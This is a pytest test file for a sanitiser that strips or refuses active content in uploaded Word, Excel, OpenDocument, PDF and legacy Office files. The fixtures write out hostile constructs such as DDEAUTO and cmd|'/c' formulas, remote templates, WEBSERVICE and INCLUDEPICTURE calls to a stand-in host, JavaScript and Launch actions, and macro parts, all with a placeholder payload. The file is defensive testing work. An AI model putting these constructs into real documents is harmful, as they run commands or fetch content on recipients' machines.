"""Nothing that acts is served, whatever it is called; the words and figures stay."""

import io
from typing import Any

import olefile
import openpyxl
import pytest
from pikepdf import Array, Dictionary, Name

from tests.attachments.documents import (
    ACTS,
    MS,
    OOXML,
    PNG,
    biff,
    compound,
    everything_in,
    letter,
    open_text,
    package,
    pdf,
    workbook,
)
from tests.intake.sample_files import inspected, outcome

MARK = ACTS.decode()
FIB = bytes(32)
"""How a stream of Word begins."""
EVIL = f"http://jahat.example/{MARK}"
DOCM = "application/vnd.ms-word.document.macroEnabled.main+xml"
DOCX = f"{OOXML}wordprocessingml.document"

PLAIN = (
    b"<w:document xmlns:w='http://schemas.openxmlformats.org/wordprocessingml/2006/main'>"
    b"<w:body><w:p><w:r><w:t>Isi</w:t></w:r></w:p></w:body></w:document>"
)


def fields(*pieces: str) -> str:
    """A field of a letter whose instruction comes in pieces, and what it showed last."""
    run = "<w:r>{}</w:r>".format
    return "".join(
        [
            "<w:p>",
            run('<w:fldChar w:fldCharType="begin"/>'),
            *(run(f"<w:instrText>{piece}</w:instrText>") for piece in pieces),
            run('<w:fldChar w:fldCharType="separate"/>') + run("<w:t>hasil</w:t>"),
            run('<w:fldChar w:fldCharType="end"/>') + "</w:p>",
        ]
    )


LETTERS = {
    "macros": letter(
        "",
        [("rId9", f"{MS}/vbaProject", "vbaProject.bin")],
        {"word/vbaProject.bin": ACTS},
        main_type=DOCM,
    ),
    "macros under another name": letter(
        "", [("rId9", f"{MS}/vbaProject", "media/gambar.png")], {"word/media/gambar.png": ACTS}
    ),
    "macros that nothing leads to": letter("", [], {"word/vbaProject.bin": ACTS}),
    "a remote template": letter(
        "",
        [("rId2", "settings", "settings.xml")],
        {
            "word/settings.xml": b'<w:settings xmlns:w="http://schemas.openxmlformats.org/'
            b'wordprocessingml/2006/main" xmlns:q="http://schemas.openxmlformats.org/'
            b'officeDocument/2006/relationships"><w:attachedTemplate q:id="rId1"/></w:settings>'
        },
        of_parts={"word/settings.xml": [("rId1", "attachedTemplate", EVIL)]},
    ),
    "an embedded object": letter(
        '<w:p><w:r><w:object><o:OLEObject Type="Embed" r:id="rId7"/></w:object></w:r></w:p>',
        [("rId7", "oleObject", "embeddings/oleObject1.bin")],
        {"word/embeddings/oleObject1.bin": ACTS},
    ),
    "a linked object": letter(
        '<w:p><w:r><w:object><o:OLEObject Type="Link" r:id="rId7"/></w:object></w:r></w:p>',
        [("rId7", "oleObject", EVIL)],
    ),
    "an embedded workbook": letter(
        "", [("rId7", "package", "embeddings/Buku.xlsx")], {"word/embeddings/Buku.xlsx": ACTS}
    ),
    "a control": letter(
        '<w:p><w:r><w:control r:id="rId7"/></w:r></w:p>',
        [("rId7", "control", "activeX/activeX1.xml")],
        {"word/activeX/activeX1.xml": b"<ax>%s</ax>" % ACTS},
    ),
    "a page of HTML": letter(
        '<w:altChunk r:id="rId7"/>',
        [("rId7", "aFChunk", "bagian.html")],
        {"word/bagian.html": b"<script>%s</script>" % ACTS},
    ),
    "a frame": letter(
        '<w:subDoc r:id="rId7"/>', [("rId7", "subDocument", f"file://server/{MARK}")]
    ),
    "a picture fetched": letter(
        '<w:p><a:blip r:link="rId7"/></w:p>', [("rId7", "image", EVIL + ".png")]
    ),
    "a picture fetched by VML": letter(f'<w:pict><v:imagedata src="{EVIL}"/></w:pict>'),
    "a page as a picture": letter(
        '<w:p><a:blip r:embed="rId7"/></w:p>',
        [("rId7", "image", "media/a.png")],
        {"word/media/a.png": b"<svg onload='%s'/>" % ACTS},
    ),
    "an add-in": package(
        "word/document.xml",
        f"{DOCX}.main+xml",
        {
            "word/document.xml": PLAIN,
            "word/webextensions/taskpanes.xml": b"<x>%s</x>" % ACTS,
        },
        {"": [("rId5", f"{MS}/webextensiontaskpanes", "word/webextensions/taskpanes.xml")]},
    ),
    "buttons of the ribbon": letter(
        "", [("rId7", f"{MS}/ui/extensibility", "customUI.xml")], {"word/customUI.xml": ACTS}
    ),
    "a link to a file": letter(
        '<w:p><w:hyperlink r:id="rId7"/></w:p>', [("rId7", "hyperlink", f"file:///c:/{MARK}.exe")]
    ),
    "a link that runs": letter(
        '<w:p><w:hyperlink r:id="rId7"/></w:p>', [("rId7", "hyperlink", f"javascript:{MARK}")]
    ),
    "DDE": letter(fields(f'DDEAUTO c:\\\\windows\\\\cmd.exe "/k {MARK}"')),
    "DDE in pieces": letter(fields("DD", "E", f"AUTO {MARK}", " x")),
    "DDE spelt by another field": letter(
        fields(
            "</w:instrText></w:r>" + fields("QUOTE 68 68 69")[5:-6] + f"<w:r><w:instrText>{MARK}"
        )
    ),
    "DDE in one element": letter(f'<w:p><w:fldSimple w:instr=" dde {MARK} x"/></w:p>'),
    "a picture fetched by a field": letter(fields(f' INCLUDEPICTURE "{EVIL}" \\d ')),
    "a field that links to a server": letter(fields(f' HYPERLINK "\\\\\\\\server\\\\{MARK}" ')),
    "mail merge": letter(f"<w:mailMerge><w:query>{MARK}</w:query></w:mailMerge>"),
    "data of others": letter(
        "", [("rId7", "customXml", "../customXml/item1.xml")], {"customXml/item1.xml": ACTS}
    ),
}
WORKBOOKS = {
    "macros": workbook(
        of_book=[("rId9", f"{MS}/vbaProject", "vbaProject.bin")],
        parts={"xl/vbaProject.bin": ACTS},
        main_type="application/vnd.ms-excel.sheet.macroEnabled.main+xml",
    ),
    "macros of Excel 4": workbook(
        book=f'<definedNames><definedName name="_xlnm.Auto_Open">{MARK}Auto_Open</definedName>'
        "</definedNames>",
        of_book=[("rId9", f"{MS}/xlMacrosheet", "macrosheets/sheet1.xml")],
        parts={"xl/macrosheets/sheet1.xml": b"<x>%s</x>" % ACTS},
    ),
    "DDE": workbook(
        f"<c r='B1'><f>cmd|'/c {MARK}'!A0</f><v>1</v></c>",
        book='<externalReferences><externalReference r:id="rId9"/></externalReferences>',
        of_book=[("rId9", "externalLink", "externalLinks/externalLink1.xml")],
        parts={"xl/externalLinks/externalLink1.xml": b"<ddeLink ddeTopic='%s'/>" % ACTS},
    ),
    "DDE written otherwise": workbook(f"<c r='B1'><f>cmd&#124;'/c {MARK}'!A0</f><v>1</v></c>"),
    "DDE as characters": workbook(f"<c r='B1'><f><![CDATA[cmd|'/c {MARK}'!A0]]></f><v>1</v></c>"),
    "a page asked for": workbook(f'<c r="B1"><f>WEBSERVICE("{EVIL}")</f><v>1</v></c>'),
    "another workbook": workbook(f"<c r='B1'><f>[1]{MARK}!A1</f><v>1</v></c>"),
    "a connection": workbook(
        of_book=[("rId9", "connections", "connections.xml")],
        parts={"xl/connections.xml": b"<c url='%s'/>" % ACTS},
    ),
    "an embedded object": workbook(
        more='<oleObjects><oleObject progId="Package" r:id="rId1"/></oleObjects>',
        relations=[("rId1", "oleObject", "embeddings/o.bin")],
        parts={"xl/embeddings/o.bin": ACTS},
    ),
    "a large sheet": workbook(
        "<c><v>1</v></c>" * 500_000 + f"<c r='B1'><f>cmd|'/c {MARK}'!A0</f><v>1</v></c>"
    ),
}
OPEN = {
    "macros": open_text("", {"Basic/Standard/Modul.xml": ACTS, "Basic/script-lc.xml": ACTS}),
    "scripts": open_text("", {"Scripts/python/a.py": ACTS}),
    "macros by another spelling": open_text("", {"basic/Standard/Modul.xml": ACTS}),
    "an event": open_text(
        "",
        head='<office:scripts><office:event-listeners><script:event-listener xlink:href="'
        f'vnd.sun.star.script:{MARK}"/></office:event-listeners></office:scripts>',
    ),
    "an embedded object": open_text(
        '<draw:object-ole xlink:href="./Object 1"/>', {"Object 1": ACTS}
    ),
    "an embedded file": open_text("", {"lampiran/virus.exe": ACTS}),
    "a remote picture": open_text(f'<draw:image xlink:href="{EVIL}.png"/>'),
    "a remote part": open_text(f'<text:section-source xlink:href="file:///{MARK}"/>'),
    "a link that runs": open_text(f'<text:a xlink:href="javascript:{MARK}">x</text:a>'),
    "a link to a macro": open_text(f'<text:a xlink:href="vnd.sun.star.script:{MARK}">x</text:a>'),
    "DDE": open_text(f'<text:dde-connection-decls><x a="{MARK}"/></text:dde-connection-decls>'),
    "a formula": open_text(
        f"<table:table-cell table:formula=\"of:=DDE('cmd';'{MARK}';'x')\"/>", kind="spreadsheet"
    ),
    "a plug-in": open_text(f'<draw:plugin xlink:href="a"><x a="{MARK}"/></draw:plugin>'),
    "a frame": open_text(f'<draw:floating-frame xlink:href="{EVIL}"/>'),
    **{
        f"a {source} of a data base": open_text(
            f'<table:database-range><table:{source} table:database-name="{MARK}"/>'
            "</table:database-range>",
            kind="spreadsheet",
        )
        for source in (
            *("database-source-sql", "database-source-table", "database-source-query"),
            *("source-service", "data-mappings"),
        )
    },
    "buttons": open_text("", {"Configurations2/accelerator/current.xml": ACTS}),
    "a page as a picture": open_text(
        '<draw:image xlink:href="Pictures/a.svg"/>', {"Pictures/a.svg": b"<svg>%s</svg>" % ACTS}
    ),
}


@pytest.mark.parametrize("kind", LETTERS)
def test_a_letter_keeps_its_words_and_loses_what_acts(kind: str) -> None:
    before = LETTERS[kind]
    assert ACTS in everything_in(before)
    after = inspected(before)
    packed = everything_in(after.content)
    assert after.media_type == DOCX
    assert ACTS not in packed
    assert b"<w:t>Isi</w:t>" in packed
    assert b"macroEnabled" not in packed
    assert b"vbaProject" not in packed
    if "hasil" in before.decode("latin-1"):
        assert b"hasil" in packed


@pytest.mark.parametrize("kind", WORKBOOKS)
def test_a_workbook_keeps_its_figures_and_loses_what_acts(kind: str) -> None:
    before = WORKBOOKS[kind]
    assert ACTS in everything_in(before) or kind == "DDE written otherwise"
    after = inspected(before).content
    assert ACTS not in everything_in(after)
    book = openpyxl.load_workbook(io.BytesIO(after), read_only=True)
    assert next(book["Data"].iter_rows(values_only=True))[0] == 7
    book.close()


@pytest.mark.parametrize("kind", OPEN)
def test_an_open_document_keeps_its_words_and_loses_what_acts(kind: str) -> None:
    before = OPEN[kind]
    assert ACTS in everything_in(before)
    packed = everything_in(inspected(before).content)
    assert ACTS not in packed
    assert b"Isi" in packed


def test_what_does_not_act_stays() -> None:
    link = [
        ("rId1", "hyperlink", "https://lapor.go.id/"),
        ("rId2", "image", "media/a.png"),
        ("rId3", "header", "header1.xml"),
    ]
    body = (
        '<w:p><w:hyperlink r:id="rId1"/></w:p><w:p><a:blip r:embed="rId2"/></w:p>'
        + fields(" PAGE ")
        + fields(' HYPERLINK "https://lapor.go.id/" ')
    )
    header = b"<w:hdr xmlns:w='http://schemas.openxmlformats.org/wordprocessingml/2006/main'/>"
    parts = {"word/media/a.png": PNG, "word/header1.xml": header}
    packed = everything_in(inspected(letter(body, link, parts)).content)
    for kept in (
        *(b'Target="https://lapor.go.id/"', b'r:id="rId1"', b'r:embed="rId2"', PNG),
        *(b"<w:hdr", b" PAGE ", b'HYPERLINK "https://lapor.go.id/"'),
    ):
        assert kept in packed
    formula = workbook('<c r="B1"><f>SUM(A1,3)</f><v>10</v></c>')
    assert b"SUM(A1,3)" in everything_in(inspected(formula).content)
    page = open_text('<text:a xlink:href="https://lapor.go.id/">x</text:a>')
    assert b"https://lapor.go.id/" in everything_in(inspected(page).content)


def test_entities_and_second_parts_of_one_name_are_unreadable() -> None:
    laughs = b'<!DOCTYPE a [<!ENTITY b "c">]><a>&b;</a>'
    assert outcome(letter("", [], {"word/document.xml": laughs})) == "unreadable"
    twice = letter("", [], {"word/Document.xml": b"<a/>"})
    assert outcome(twice) == "unreadable"


def action(kind: str, **more: Any) -> Dictionary:
    return Dictionary(S=Name(kind), **more)


def _note(document: Any, page: Any, subtype: str, **more: Any) -> None:
    note = Dictionary(Type=Name.Annot, Subtype=Name(subtype), Rect=Array([0, 0, 9, 9]), **more)
    note = document.make_indirect(note)
    if subtype == "/Widget":
        document.Root.AcroForm = Dictionary(Fields=Array([note]))
    page.Annots = document.make_indirect(Array([note]))


def _stream(document: Any) -> Any:
    return document.make_stream(ACTS, Type=Name.EmbeddedFile)


def _script(document: Any, page: Any) -> None:
    names = Array([MARK, document.make_indirect(action("/JavaScript", JS=MARK))])
    document.Root.Names = Dictionary(JavaScript=Dictionary(Names=names))


def _embedded(document: Any, page: Any) -> None:
    spec = Dictionary(Type=Name.Filespec, F=MARK, EF=Dictionary(F=_stream(document)))
    document.Root.Names = Dictionary(EmbeddedFiles=Dictionary(Names=Array(["a", spec])))


def _form(document: Any, page: Any) -> None:
    document.Root.AcroForm = Dictionary(Fields=Array([]), XFA=_stream(document))


def _nested(document: Any, page: Any) -> None:
    """An action behind an action, in a list of lists."""
    follow = Array([action("/GoTo", D="a"), action("/Launch", F=MARK)])
    _note(document, page, "/Link", A=action("/GoTo", D="a", Next=follow))


PDFS = {
    "a script": _script,
    "embedded files": _embedded,
    "a form of XML": _form,
    "when it is opened": lambda d, p: setattr(d.Root, "OpenAction", action("/JavaScript", JS=MARK)),
    "when a page is opened": lambda d, p: setattr(
        p, "AA", Dictionary(O=action("/JavaScript", JS=d.make_stream(ACTS)))
    ),
    "a program started": lambda d, p: _note(d, p, "/Link", A=action("/Launch", F=MARK)),
    "a program started on Windows": lambda d, p: _note(
        d, p, "/Link", A=action("/Launch", Win=Dictionary(F=MARK))
    ),
    "an action behind an action": _nested,
    "another document": lambda d, p: _note(d, p, "/Link", A=action("/GoToR", F=MARK)),
    "a form sent": lambda d, p: _note(d, p, "/Widget", A=action("/SubmitForm", F=EVIL)),
    "a key pressed": lambda d, p: _note(
        d, p, "/Widget", AA=Dictionary(K=action("/JavaScript", JS=MARK))
    ),
    "an address that runs": lambda d, p: _note(
        d, p, "/Link", A=action("/URI", URI=f"javascript:{MARK}")
    ),
    "a file as a note": lambda d, p: _note(
        d, p, "/FileAttachment", FS=Dictionary(EF=Dictionary(F=_stream(d)))
    ),
    "rich media": lambda d, p: _note(d, p, "/RichMedia", RichMediaContent=_stream(d)),
    "a film": lambda d, p: _note(d, p, "/Screen", MK=Dictionary(A=_stream(d))),
    "a sound": lambda d, p: _note(d, p, "/Sound", Sound=_stream(d)),
    "a model": lambda d, p: _note(d, p, "/3D", **{"3DD": _stream(d)}),
    "a file of a page": lambda d, p: setattr(
        p, "AF", Array([Dictionary(EF=Dictionary(F=_stream(d)))])
    ),
    "a portfolio": lambda d, p: setattr(d.Root, "Collection", Dictionary(D=MARK)),
    "where addresses begin": lambda d, p: setattr(d.Root, "URI", Dictionary(Base=MARK)),
    "where addresses begin, elsewhere": lambda d, p: setattr(
        d.Root, "URI", d.make_indirect(Dictionary(Base=MARK))
    ),
    "a slide show": lambda d, p: setattr(
        d.Root, "Names", Dictionary(AlternatePresentations=Dictionary(Names=Array(["a", MARK])))
    ),
    "named films": lambda d, p: setattr(
        d.Root, "Names", Dictionary(Renditions=Dictionary(Names=Array(["a", MARK])))
    ),
    "pages taken from the web": lambda d, p: setattr(
        d.Root, "SpiderInfo", Dictionary(V=1, C=Array([Dictionary(URL=MARK)]))
    ),
    "what nothing leads to": lambda d, p: d.make_indirect(action("/JavaScript", JS=MARK)),
}


@pytest.mark.parametrize("kind", PDFS)
def test_a_pdf_keeps_its_page_and_loses_what_acts(kind: str) -> None:
    before = pdf(PDFS[kind])
    packed = everything_in(inspected(before).content)
    assert ACTS not in packed
    assert b"(Isi) Tj" in packed
    for word in (b"/JavaScript", b"/Launch", b"/EmbeddedFile", b"/XFA", b"/OpenAction"):
        assert word not in packed


def test_a_pdf_keeps_its_links() -> None:
    def links(document: Any, page: Any) -> None:
        _note(document, page, "/Link", A=action("/URI", URI="https://lapor.go.id/"))

    assert b"https://lapor.go.id/" in everything_in(inspected(pdf(links)).content)


@pytest.mark.parametrize(
    "streams",
    [
        {"WordDocument": b"Isi", "Macros/dir": ACTS},
        {"WordDocument": b"Isi", "ObjectPool/a": ACTS},
        {"WordDocument": b"Isi", "Lain/_VBA_PROJECT": ACTS},
        {"WordDocument": FIB + b"\x13 DDEAUTO c:\\\\cmd.exe \x14"},
        {"WordDocument": FIB + "\x13 ddeauto c:\\cmd.exe".encode("utf-16-le")},
        {"WordDocument": FIB + b'\x13 INCLUDEPICTURE "http://jahat.example/" \x14'},
        {"Workbook": b"", "_VBA_PROJECT_CUR/VBA": ACTS},
        {"Workbook": biff((0x809, bytes(16)), (0x85, bytes(5) + b"\x01" + b"\x01\0M"))},
        {"Workbook": biff((0x809, bytes(16)), (0xD3, b""))},
        {"Workbook": biff((0x1AE, b"\x01\0\x07\0\0cmd\x03/c a"))},
        {"Workbook": b"", "MBD0001/\x01Ole10Native": ACTS},
        {"PowerPoint Document": b"\x0f\0\xe8\x03\x10\0\0\0" + b"\0\0\x11\x10\4\0\0\0" + bytes(8)},
        {"PowerPoint Document": b"", "\x01Ole10Native": ACTS},
    ],
    ids=lambda streams: "-".join(streams).encode("unicode_escape").decode(),
)
def test_an_old_document_that_acts_is_refused_for_that(streams: dict[str, bytes]) -> None:
    content = compound(streams)
    assert olefile.isOleFile(content)
    assert outcome(content) == "active_content"


@pytest.mark.parametrize(
    ("streams", "media_type"),
    [
        ({"WordDocument": FIB + b"Isi surat tentang DDR5"}, "application/msword"),
        (
            {"Workbook": biff((0x809, bytes(16)), (0x85, bytes(6) + b"\x04\0Data"))},
            "application/vnd.ms-excel",
        ),
        (
            {"Workbook": biff((0x1AE, b"\x01\0\x07\0\0\x01buku\x03a"))},
            "application/vnd.ms-excel",
        ),
        ({"PowerPoint Document": b"\x0f\0\xe8\x03\0\0\0\0"}, "application/vnd.ms-powerpoint"),
    ],
)
def test_an_old_document_that_does_not_act_is_taken(
    streams: dict[str, bytes], media_type: str
) -> None:
    content = compound(streams)
    assert inspected(content) == (content, media_type)


@pytest.mark.parametrize(
    "streams",
    [
        {"EncryptedPackage": b"x", "EncryptionInfo": b"x"},
        {"WordDocument": bytes(11) + b"\x01"},
        {"Workbook": biff((0x809, bytes(16)), (0x2F, bytes(54)))},
    ],
)
def test_an_old_document_with_a_password_is_unreadable(streams: dict[str, bytes]) -> None:
    assert outcome(compound(streams)) == "unreadable"
